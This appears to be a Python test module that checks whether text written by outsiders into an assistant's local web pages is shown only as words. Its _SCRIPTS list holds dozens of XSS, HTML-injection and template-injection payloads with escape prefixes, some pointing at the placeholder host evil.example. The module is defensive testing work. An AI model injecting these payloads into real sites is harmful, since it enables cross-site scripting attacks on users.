"""P26: whatever a stranger can write, in whatever the page on this machine shows of it."""

# ruff: noqa: E501 - what is written is read as one line

from __future__ import annotations

import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

from assistant.policy.values import TrustLevel
from tests.torture.figure import Figure
from tests.torture.local_page import LOOKS
from tests.unit.desk.room import a_room
from tests.unit.letters.test_letter_injection import PADS, SEEDS
from tests.unit.web.browser import a_browser, everywhere

_SCRIPTS = (
    "<script>canary()</script>", "<ScRiPt src=//evil.example/x>", "<img src=x onerror=canary()>", "<svg onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x>", "<iframe src=javascript:canary()>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>", "<form action=//evil.example>",
    "<input autofocus onfocus=canary()>", "<details open ontoggle=canary()>", "<math href=javascript:canary()>canary</math>",
    "<a href=javascript:canary()>canary</a>", "<body onload=canary()>", "<template><img src=x onerror=canary()></template>",
    "<button formaction=//evil.example>canary</button>", " onmouseover=canary() x=", " style=background:url(//evil.example) x=",
    " autofocus onfocus=canary() x=", "javascript:canary()", "data:text/html,<script>canary()</script>", "vbscript:canary()",
    "{{ 7*7 }}canary", "{% for x in [1] %}canary{% endfor %}", "{# canary #}", "${7*7}canary", "<%= canary %>", "<!--canary-->",
    "<![CDATA[<script>canary()</script>]]>", "&lt;script&gt;canary()&lt;/script&gt;", "&#60;script&#62;canary()", "\\u003cscript\\u003ecanary()",
    "%3Cscript%3Ecanary()%3C/script%3E", "\ufeff<script>canary()</script>", "\u202e<script>canary()</script>", "\x00<script>canary()</script>",
)  # fmt: skip
_BEFORE = ("", '"', "'", '">', "'>", "</p>", "</textarea>", "</pre></div>", "</title>", "</form>", "-->", "]]>", "`", "\n", "\\")


_AT_ONCE = 10  # strings that one installation meets, one after the other
_OURS = re.compile(r"/(?:cases|letters|notices)/\d+(?:/[a-z-]+)?(?:#edit)?")
_TURNED = re.compile(r"[\u202a-\u202e\u2066-\u2069]")


class _Elements(HTMLParser):
    """Which elements with which attributes a page has, and where its attributes lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.kinds: set[tuple[str, tuple[str, ...]]] = set()
        self.leads: set[str] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.kinds.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.leads |= {value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "data")}

    def handle_comment(self, data: str) -> None:
        self.kinds.add(("!--", ()))


def strangers_words(directory: Path, *, every: int = 1) -> Figure:
    """P26: each string in every field that a stranger fills, on every page: elements and links are those of a name."""
    strings = [before + script for before in _BEFORE for script in _SCRIPTS]
    strings += [pad + seed for pad in PADS for seed in SEEDS]
    # Half a surrogate pair is read from no mail, and no database takes one.
    strings = [one.encode("utf-8", "replace").decode() for one in strings[::every]]
    harmless = _Elements(_pages(directory / "harmless", ["Ines Falk"]))
    wrong = []
    for start in range(0, len(strings), _AT_ONCE):
        portion = strings[start : start + _AT_ONCE]
        text = _pages(directory / str(start), portion)
        found = _Elements(text)
        leads = {one for one in found.leads - harmless.leads if not _OURS.fullmatch(one)}
        if found.kinds - harmless.kinds or leads or "49canary" in text or _TURNED.search(text):
            wrong.append(portion)
    reached = f"{len(strings)} strings in every field, on {len(LOOKS)} pages: {len(wrong)} times something else than words"
    return Figure("P26", "the local page: what strangers write is shown as words", reached, not wrong)


def _pages(directory: Path, strings: list[str]) -> str:
    """All pages of an installation whose strangers are called, and wrote, *strings*."""
    directory.mkdir()
    room = a_room()
    room.config = replace(room.config, ceiling=TrustLevel.ASK)
    case = room.invites()
    browser = a_browser(room, directory)
    text = ""
    for evil in strings:
        everywhere(room, case, evil)
        text += "".join(browser.get(path).text for path in LOOKS)
    room.store.close()
    return text
